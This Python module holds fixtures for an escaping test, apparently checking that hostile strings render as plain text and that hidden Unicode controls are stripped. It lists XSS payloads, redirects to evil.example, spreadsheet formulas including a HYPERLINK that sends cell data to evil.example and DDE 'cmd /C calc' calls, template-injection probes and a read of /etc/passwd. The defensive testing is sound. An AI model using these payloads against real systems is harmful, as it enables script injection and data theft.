"""Texts written to run, to hide, to break out or to reorder: each must be shown as text wherever it goes."""

from __future__ import annotations

HOSTILE: tuple[str, ...] = (
    "<script>alert('PWNED')</script>",
    "</title><script>alert(1)</script>",
    "<img src=x onerror=\"document.title='PWNED'\">",
    "<svg onload=alert(1)><animate onbegin=alert(1)>",
    '"><iframe src="https://evil.example/"></iframe>',
    "' onmouseover='alert(1)",
    "</style><style>body{display:none}</style>",
    "</table></div></main><h1>Not the report</h1>",
    "<!-- --><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "&lt;b&gt; &amp; &#x3C;script&#x3E;",
    "javascript:alert(1)",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=1+1",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "http://evil.example/ and mailto:someone@evil.example",
    "#set page(fill: red)",
    '#{ panic(1) } #read("/etc/passwd") #image("x.png")',
    "*bold* _em_ `code` = heading - list / term: x",
    "$x^2 + \\frac{1}{2}$ and \\input{secret} and $$",
    "<label> @reference \\u{41} ~ -- --- // comment /* c */",
    "[click](javascript:alert(1)) ![x](https://evil.example/x.png)",
    "{{ config }} {% raw %} ${7*7} %(name)s %s {0}",
    "]]> <![CDATA[ x ]]>",
    "_x0041_ _xD800_",
    "A" * 300,
    "Great support from Jo & team, 10/10 <3",
    "Zażółć gęślą jaźń ŵŷ İstanbul Œuvre",
)
"""Shown letter for letter."""

CLEANED: tuple[tuple[str, str], ...] = (
    ("abc\u202etxt.exe", "abctxt.exe"),
    ("zero\u200bwidth\u200djoin\ufeff", "zerowidthjoin"),
    ("\u2066iso\u2069late\u200f", "isolate"),
    ("line\r\nbreak\tand\x00null\x1b[31m", "line break and null [31m"),
    ("soft\u00adhyphen", "softhyphen"),
    ("e\u0301", "é"),
    ("\U000e0041tag", "tag"),
)
"""What is written, and what is left of it."""
